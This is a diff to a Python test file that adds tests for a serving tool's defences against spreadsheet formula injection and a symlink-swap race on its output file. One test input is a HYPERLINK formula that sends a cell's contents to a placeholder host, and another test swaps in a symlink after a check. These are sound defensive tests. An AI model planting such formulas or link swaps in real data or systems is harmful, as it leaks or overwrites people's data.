@@ -14,6 +14,7 @@ from emovox.serving.outfile import (
     check_same_model,
     drop_partial_last_line,
     models_in,
+    spreadsheet_safe,
 )
 
 
@@ -115,7 +116,6 @@ def test_links_and_fifos_are_never_ours(tmp_path, kind):
 def test_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
     """A file named =1+2*3.wav made its error cell a formula (security QA, stop 31)."""
     from emovox.serving.batch import row_for
-    from emovox.serving.outfile import spreadsheet_safe
 
     assert [spreadsheet_safe(t) for t in ("=1+2", "+x", "-x", "@x", "\tx", "ok", "")] == [
         "'=1+2", "'+x", "'-x", "'@x", "'\tx", "ok", ""]
@@ -124,3 +124,33 @@ def test_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
         "' =x", "'\u00a0=x", "'\uff1dx", "'\u2212x", "a=b"]
     row = row_for(tmp_path / "=1+2*3.wav", None, "=1+2*3.wav: not a recognisable audio file")
     assert row["error"].startswith("'=1+2*3.wav")
+
+
+def test_a_link_swapped_in_after_the_check_is_refused_at_the_open(tmp_path):
+    """check_ours, then open(out, "a"): a link swapped in between got the rows (second
+    re-check, stop 31). The file is opened without following links and checked open."""
+    from emovox.serving.outfile import open_ours_for_append
+
+    out, victim = tmp_path / "rows.jsonl", tmp_path / "victim.txt"
+    victim.write_text("VICTIM\n")
+    check_ours(out)  # nothing there yet: fine
+    out.symlink_to(victim)  # ... swapped in now
+    with pytest.raises(ConfigError, match="plain file"):
+        open_ours_for_append(out)
+    assert victim.read_text() == "VICTIM\n"
+    out.unlink()
+    with open_ours_for_append(out) as f:
+        f.write("{}\n")
+    assert out.read_text() == "{}\n"
+
+
+def test_a_model_name_that_is_a_formula_is_quoted_and_still_matches_on_resume():
+    """`model_id` is the model's name (any text from model.json) and a digest: a folder named
+    like a formula wrote it into every row (second re-check, stop 31)."""
+    from emovox.serving.outfile import unquoted
+
+    mid = '=HYPERLINK("http://x.example/?"&A1,"ok")-0123abcd'
+    cell = spreadsheet_safe(mid)
+    assert cell == "'" + mid and unquoted(cell) == mid
+    assert unquoted("'plain") == "'plain"  # a name that really starts with a quote
+    assert models_in([{"model_id": cell, "error": ""}]) == {mid}
